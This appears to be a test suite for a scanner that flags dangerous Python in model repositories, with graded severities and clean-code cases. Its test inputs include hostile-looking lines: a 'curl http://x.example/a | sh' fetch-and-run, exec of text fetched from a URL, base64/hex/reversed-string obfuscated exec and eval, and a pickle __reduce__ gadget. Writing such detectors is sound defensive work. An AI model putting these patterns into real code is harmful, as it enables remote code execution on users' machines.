/** Program text that comes with models: what it does is told, what models need is let through. */
import { utf8 } from '@merlon/core';
import { describe, expect, it } from 'vitest';
import { readPython } from '../src/python/reader.ts';
import { rulesOf, scan } from './support.ts';

const read = (text: string, path = 'modeling.py') => scan(utf8(text), { path });
const worst = async (text: string): Promise<string> => {
  const [first] = rulesOf(await read(text), 'medium');
  return first ?? 'nothing';
};

describe('what runs by importing a file', () => {
  const probe = 'import subprocess\ndef probe(c):\n    subprocess.run(c)\n';
  it.each([
    ['called', `${probe}probe(x)\n`],
    ['called by one that is called', `${probe}def a():\n    probe(x)\na()\n`],
    ['handed to a thread', `${probe}import threading\nthreading.Thread(target=probe).start()\n`],
    ['a decorator', `${probe}@probe\ndef other():\n    pass\n`],
    [
      'made by an object',
      'import subprocess\nclass A:\n    def __init__(self, c):\n        subprocess.run(c)\nA(x)\n',
    ],
    [
      'a method of an object made',
      'import subprocess\nclass A:\n  def go(self, c):\n    subprocess.run(c)\nA().go(x)\n',
    ],
    [
      'made by a class below',
      'import subprocess\nclass A:\n  def __init_subclass__(c):\n    subprocess.run(c)\n',
    ],
  ])('is grave when %s', async (_, text) => {
    expect(await worst(text)).toBe('MRL-PYC-002 high');
  });
  it.each([
    ['is never called', probe],
    ['is called when the file is a program', `${probe}if __name__ == '__main__':\n    probe(x)\n`],
    ['is called by one that is never called', `${probe}def a():\n    probe(x)\n`],
  ])('is less grave when it %s', async (_, text) => {
    expect(await worst(text)).toBe('MRL-PYC-002 medium');
  });
});

describe('programs that are started', () => {
  it.each([
    ["import os\nos.system('echo inert')\n", 'MRL-PYC-002 high'],
    ["from os import system as s\ns('echo inert')\n", 'MRL-PYC-002 high'],
    ["from os import *\nsystem('echo inert')\n", 'MRL-PYC-002 high'],
    ["import subprocess as p\np.run(['sh', '-c', 'echo'])\n", 'MRL-PYC-002 high'],
    ["__import__('o' + 's').popen('echo')\n", 'MRL-PYC-002 high'],
    ["import os\ngetattr(os, 'sys' + 'tem')('echo')\n", 'MRL-PYC-001 high'],
    ["import os\nif (s := os.system)('echo'):\n    pass\n", 'MRL-PYC-002 high'],
    [
      "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('x',))\n",
      'MRL-PYC-002 high',
    ],
    ["import logging\nlogging.os.system('echo')\n", 'MRL-PYC-002 high'],
    ["import os\nos.system('curl http://x.example/a | sh')\n", 'MRL-PYC-002 critical'],
    ["import base64, os\nos.system(base64.b64decode('ZWNobw=='))\n", 'MRL-PYC-002 critical'],
  ])('%j', async (text, expected) => {
    expect(await worst(text)).toBe(expected);
  });
});

describe('texts that are run', () => {
  it.each([
    ["import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", 'MRL-PYC-001 critical'],
    ["exec(bytes.fromhex('7072696e74283129').decode())\n", 'MRL-PYC-001 critical'],
    [
      "import requests\ndef f():\n    exec(requests.get('https://x.example').text)\n",
      'MRL-PYC-001 critical',
    ],
    ["eval(')1(tnirp'[::-1])\n", 'MRL-PYC-001 critical'],
    ['def handle(data, context):\n    return eval(data[0])\n', 'MRL-PYC-001 high'],
    ['exec("import os; os.system(\'x\')")\n', 'MRL-PYC-002 high'],
    ["globals()['__builtins__']['eval']('1')\n", 'MRL-PYC-001 high'],
    ["import marshal\nmarshal.loads(b'x')\n", 'MRL-PYC-001 high'],
  ])('%j', async (text, expected) => {
    expect(await worst(text)).toBe(expected);
  });
});

describe('what models need', () => {
  it.each([
    'import os\npath = os.path.join(os.getcwd(), "a")\nwith open(path) as f:\n    f.read()\n',
    'import re\nx = re.compile("a")\nmodel.eval()\nself.compile()\n',
    'import subprocess\nsubprocess.check_output(["git", "rev-parse", "HEAD"])\n',
    'about = {}\nwith open("v.py") as f:\n    exec(f.read(), about)\n',
    'import torch\nx = torch.load("a.pt", map_location="cpu", weights_only=True)\n',
    'import requests\ndef image(url):\n    return requests.get(url, stream=True).raw\n',
    'import ctypes\nclass S(ctypes.Structure):\n    _fields_ = [("a", ctypes.c_int)]\n',
    '"""os.system(\'x\') in words."""\n# exec("x")\nname = "os.system"\n',
  ])('%j is clean', async (text) => {
    expect((await read(text)).verdict).toBe('clean');
  });
});

describe('the reader', () => {
  it('tells whether importing is enough', () => {
    const source = "import os\nos.system('a')\ndef f():\n    os.system('b')\nos.system('c')\n";
    expect(readPython(source).uses.map((use) => use.atImport)).toEqual([true, false, true]);
  });
  it('answers broken and deep source', () => {
    for (const source of [
      '(((',
      "'",
      '"""',
      'import',
      'from x',
      `${'('.repeat(5000)}1`,
      'f"{',
      'a[',
    ]) {
      expect(() => readPython(source)).not.toThrow();
    }
  });
});
